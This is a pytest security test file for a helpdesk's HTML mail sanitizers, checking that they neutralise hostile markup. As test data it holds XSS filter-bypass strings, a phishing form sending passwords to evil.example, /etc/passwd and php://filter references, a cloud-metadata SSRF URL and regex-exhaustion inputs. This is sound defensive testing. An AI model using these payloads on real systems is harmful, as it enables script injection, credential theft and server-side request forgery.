"""Markup that arrives by mail or is written here; rows of SECURITY.md by number."""

import re
import time
import tracemalloc

import pytest

from helpdesk.core.files import safe_name
from helpdesk.core.html import (
    allow_remote_images,
    linkify,
    place_inline_images,
    plain_text_of,
    sanitize_compose,
    sanitize_mail,
)
from tests.security.active import active_content
from tests.security.hostile import SCHEMES, SCRIPTS

NESTED = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<script></script>ipt>alert(1)</script>",
    "<<script>img src=x onerror=alert(1)>",
    "<im<!-- -->g src=x onerror=alert(1)>",
    "<i<iframe>mg src=x onerror=alert(1)>",
    "<style><style></style><img src=x onerror=alert(1)></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
]


def everything_shown_of(html):
    """Every form in which a mail can reach a page."""
    safe = sanitize_mail(html).html
    return [
        safe,
        sanitize_mail(safe).html,
        place_inline_images(safe, {"a": "https://files.example/a"}),
        sanitize_compose(html),
        linkify(html),
        linkify(plain_text_of(html)),
    ]


def with_allowed_pictures(html):
    return allow_remote_images(sanitize_mail(html).html)


class TestRow21NestedTagFilterBypass:
    @pytest.mark.parametrize("html", NESTED)
    def test_what_is_left_after_removal_is_not_markup_again(self, html):
        assert [active_content(shown) for shown in everything_shown_of(html)] == [
            []
        ] * 6

    @pytest.mark.parametrize("html", NESTED)
    def test_nor_after_cleaning_once_more(self, html):
        once = sanitize_mail(html).html

        assert sanitize_mail(once).html == once

    def test_escaped_markup_stays_words(self):
        html = sanitize_mail("&lt;img src=x onerror=alert(1)&gt;").html

        assert html == "&lt;img src=x onerror=alert(1)&gt;"


class TestRow22PhishingForm:
    FORM = (
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">'
        '<form action="https://evil.example/"><input name="password" type="password">'
        '<textarea name="a"></textarea><select name="b"><option>c</option></select>'
        '<button formaction="https://evil.example/">Sign in</button></form>'
        '<input form="f" type="image" src="https://evil.example/"><isindex>'
    )

    @pytest.mark.parametrize(
        "place", ["{}", "<table><tr>{}", "<p>{}", "<svg>{}</svg>{}"]
    )
    def test_nothing_can_be_filled_in_or_sent(self, place):
        html = place.replace("{}", self.FORM)

        assert [active_content(shown) for shown in everything_shown_of(html)] == [
            []
        ] * 6


class TestRow23WhatIsWrittenHere:
    """Signatures, automatic answers, notes and answers pass `sanitize_compose`."""

    @pytest.mark.parametrize("html", SCRIPTS)
    def test_runs_nothing(self, html):
        assert active_content(sanitize_compose(html)) == []

    def test_loads_nothing(self):
        html = '<img src="https://evil.example/a.png"><p style="background:url(//a)">b'

        assert sanitize_compose(html) == "<p>b</p>"

    @pytest.mark.parametrize("url", SCHEMES)
    def test_links_nowhere_strange(self, url):
        assert active_content(sanitize_compose(f'<a href="{url}">a</a>')) == []


class TestRow32StoredXssByHtmlPart:
    @pytest.mark.parametrize("html", SCRIPTS)
    def test_an_html_part_runs_nothing(self, html):
        assert active_content(sanitize_mail(html).html) == []

    @pytest.mark.parametrize("html", SCRIPTS)
    def test_nor_once_its_pictures_are_allowed(self, html):
        allowed = with_allowed_pictures(f'<img src="https://a.example/b">{html}')

        assert active_content(allowed) == ["img src=https://a.example/b"]


class TestRow33StoredXssInDescription:
    @pytest.mark.parametrize("html", SCRIPTS)
    def test_markup_in_plain_text_is_shown_as_it_was_typed(self, html):
        shown = linkify(html)

        assert set(active_content(shown)) == set()
        assert "<script" not in shown.lower()
        assert "<img" not in shown.lower()


class TestRow35LinkScheme:
    @pytest.mark.parametrize("url", SCHEMES)
    def test_of_a_link_is_on_the_list(self, url):
        html = sanitize_mail(f'<a href="{url}">a</a><area href="{url}">').html

        assert active_content(html) == []
        assert "<a " not in html

    @pytest.mark.parametrize("url", SCHEMES)
    def test_of_a_picture_is_on_the_list(self, url):
        html = with_allowed_pictures(f'<img src="{url}" alt="a">')

        assert active_content(html) == []

    @pytest.mark.parametrize("url", SCHEMES)
    def test_in_plain_text_makes_no_link(self, url):
        assert "<a " not in linkify(f"[x]({url})".replace("https://evil.example", ""))


class TestRow44RegexDenialOfService:
    SIZE = 1_000_000
    TEXTS = {
        "letters": "a" * SIZE,
        "at signs": "a@" * (SIZE // 2),
        "dots": "a." * (SIZE // 2),
        "address": "a@" + "b." * (SIZE // 2),
        "colons": "http:" * (SIZE // 5),
        "web": "http://" * (SIZE // 7),
        "slashes": "www." + "/" * SIZE,
        "brackets": "http://a" + "(" * (SIZE // 2) + ")" * (SIZE // 2),
        "closing": ("http://a" + ")" * 1990 + " ") * (SIZE // 2000),
        "spaces": " " * SIZE,
        "lines": "\n " * (SIZE // 2),
        "less than": "<" * SIZE,
        "ampersands": "&" * SIZE,
        "references": "&#" * (SIZE // 2),
        "data": "data:image/png;base64," * (SIZE // 22),
        "data white": "data:image/png;base64," + " " * SIZE,
        "style": f'<p style="{"color:" * (SIZE // 6)}">a',
        "style open": f'<p style="{"rgb(" * (SIZE // 4)}">a',
        "link": f'<a href="{" " * SIZE}javascript:a">a',
        "comment": "<!--" * (SIZE // 4),
    }

    @pytest.mark.parametrize("name", TEXTS)
    @pytest.mark.parametrize(
        "read", [sanitize_mail, sanitize_compose, plain_text_of, linkify, safe_name]
    )
    def test_a_million_characters_take_no_longer_than_a_second(self, read, name):
        started = time.process_time()

        read(self.TEXTS[name])

        assert time.process_time() - started < 1


class TestRow52ExhaustionByMail:
    MEGABYTES_25 = 25 * 1024 * 1024
    MAILS = {
        "100,000 nested tags": "<div>" * 100_000 + "a" + "</div>" * 100_000,
        "100,000 open tags": "<b>" * 100_000 + "a",
        "nested tables": "<table><tr><td>" * 100_000 + "a",
        "5,000 links": '<a href="https://a.example/">b</a> ' * 5000,
        "reopened formatting": "<p>"
        + "".join(f'<font title="{"a" * 1900}{number}">' for number in range(200))
        + "<p>a" * 60_000,
        "25 MB of paragraphs": ("<p style='color:red'>words</p>\n" * 900_000)[
            :MEGABYTES_25
        ],
        "25 MB of pictures": ("<img src='https://a.example/b'>" * 900_000)[
            :MEGABYTES_25
        ],
        "25 MB of one picture": "<img src='data:image/png;base64,"
        + "A" * MEGABYTES_25
        + "'>",
        "25 MB of references": "&" * MEGABYTES_25,
        "a million attributes": "<p " + "a=b " * 1_000_000 + ">c",
    }

    @pytest.mark.parametrize("name", MAILS)
    def test_takes_no_longer_than_moments(self, name):
        started = time.process_time()

        sanitize_mail(self.MAILS[name])

        # With room for a machine that has other things to do.
        assert time.process_time() - started < 3

    @pytest.mark.parametrize(
        "name", ["nested tables", "reopened formatting", "25 MB of one picture"]
    )
    def test_takes_bounded_memory(self, name):
        html = self.MAILS[name]
        tracemalloc.start()
        try:
            safe = sanitize_mail(html)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

        assert len(safe.html) < 5_000_000
        assert peak < 150_000_000

    def test_keeps_the_words_of_a_deeply_nested_mail(self):
        assert "a" in sanitize_mail(self.MAILS["100,000 nested tags"]).html


class TestRow53FileReadByExport:
    """Nothing draws pages on the server, and what is stored loads nothing."""

    @pytest.mark.parametrize(
        "html",
        [
            '<img src="php://filter/convert.base64-encode/resource=/etc/passwd">',
            '<img src="file:///etc/passwd"><img src="\\\\evil.example\\share\\a.png">',
            '<ul style="list-style-image:url(php://filter/a)"><li>a</li></ul>',
            '<ul style="list-style:url(file:///etc/passwd)"><li>a</li></ul>',
            '<p style="background-image:url(file:///etc/passwd)">a</p>',
            '<style>@import "file:///etc/passwd";</style>',
            '<link rel="attachment" href="file:///etc/passwd">',
            '<object data="file:///etc/passwd"></object><iframe src="file:///etc/passwd">',
            '<svg><image xlink:href="file:///etc/passwd"/></svg>',
        ],
    )
    def test_no_local_file_is_named_in_what_is_stored(self, html):
        for shown in (*everything_shown_of(html)[:4], with_allowed_pictures(html)):
            assert active_content(shown) == []
            assert "passwd" not in shown
            assert "php:" not in shown


class TestRow54RequestByRenderedBody:
    @pytest.mark.parametrize(
        "html",
        [
            '<img src="http://169.254.169.254/latest/meta-data/">',
            '<img src="//evil.example/a.png">',
            '<img srcset="https://evil.example/a 2x" src="data:a">',
            '<img lowsrc="https://evil.example/a" dynsrc="https://evil.example/a">',
            '<body background="https://a.example"><table background="//evil.example">',
            '<td background="https://evil.example/a">a</td>',
            '<input type="image" src="https://evil.example/a">',
            '<video poster="https://evil.example/a" src="https://evil.example/a"></video>',
            '<picture><source srcset="https://evil.example/a"><img alt="a"></picture>',
            '<p style="background:url(https://evil.example/a)">a</p>',
            "<p style=\"background:image-set('https://evil.example/a' 1x)\">a</p>",
            r'<p style="background:\75\72\6c(https://evil.example/a)">a</p>',
            '<p style="background:ur/**/l(https://evil.example/a)">a</p>',
            "<p style=\"font-family:'a';src:url(https://evil.example/a)\">a</p>",
            "<style>@import url(https://evil.example/a);</style>",
            "<style>p{background:url(https://evil.example/a)}</style><p>a</p>",
            '<link rel="dns-prefetch" href="//a.example"><link href="//a">',
            '<svg><image href="https://a.example/a"/><use href="//a.example#a"/></svg>',
            '<a ping="https://evil.example/a">a</a>',
            '<blockquote cite="https://evil.example/a">a</blockquote>',
        ],
    )
    def test_opening_a_mail_asks_nobody_for_anything(self, html):
        for shown in everything_shown_of(html)[:4]:
            assert active_content(shown) == []


class TestRow64StoredXssByMail:
    @pytest.mark.parametrize(
        "before", ["", "<div>a", "<table><tr><td>", "<p><b>", "<a>"]
    )
    def test_no_place_in_a_mail_lets_a_script_through(self, before):
        html = before + "".join(SCRIPTS)

        assert [active_content(shown) for shown in everything_shown_of(html)] == [
            []
        ] * 6


class TestRow67StoredXssInMessageField:
    @pytest.mark.parametrize("html", SCRIPTS)
    def test_whatever_way_it_is_shown(self, html):
        assert [active_content(shown) for shown in everything_shown_of(html)] == [
            []
        ] * 6


class TestRow74InvalidText:
    TEXTS = [
        "\xff\xfe",
        "a\x00b",
        "\ud800\udfff",
        "\ufffe\uffff",
        "\x1b[31m",
        "\udcff<p>",
    ]

    @pytest.mark.parametrize("text", TEXTS)
    def test_is_shown_and_never_raises(self, text):
        for shown in everything_shown_of(f"<p>before {text} after</p>"):
            assert "before" in shown
            assert "after" in shown

    @pytest.mark.parametrize("text", TEXTS)
    def test_leaves_nothing_that_a_database_refuses(self, text):
        html = (
            f"<p title='{text}'>{text}</p><a href='https://a.example/{text}'>{text}</a>"
        )

        for shown in (*everything_shown_of(html), safe_name(text)):
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", shown)
            shown.encode("utf-8")
